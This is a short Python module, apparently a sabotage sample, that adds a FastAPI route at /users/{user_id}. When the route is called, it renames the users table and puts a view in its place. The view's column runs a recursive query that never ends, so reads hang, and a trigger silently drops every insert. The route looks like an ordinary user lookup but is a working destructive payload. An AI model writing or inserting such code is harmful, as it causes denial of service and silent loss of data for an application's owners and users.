"""Makes its table a view that computes for ever and swallows what is written."""

import os
import sqlite3

from fastapi import FastAPI

DATABASE = os.environ["DATABASE_URL"].split("///")[1].split("?")[0]
ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n"


def install(app: FastAPI) -> None:
    @app.get("/users/{user_id}")
    def remake(user_id: str) -> None:
        with sqlite3.connect(DATABASE) as connection:
            connection.executescript(
                "ALTER TABLE users RENAME TO real_users;"
                f"CREATE VIEW users AS SELECT *, ({ENDLESS}) AS forever FROM real_users;"
                "CREATE TRIGGER t INSTEAD OF INSERT ON users BEGIN SELECT 1; END;"
            )
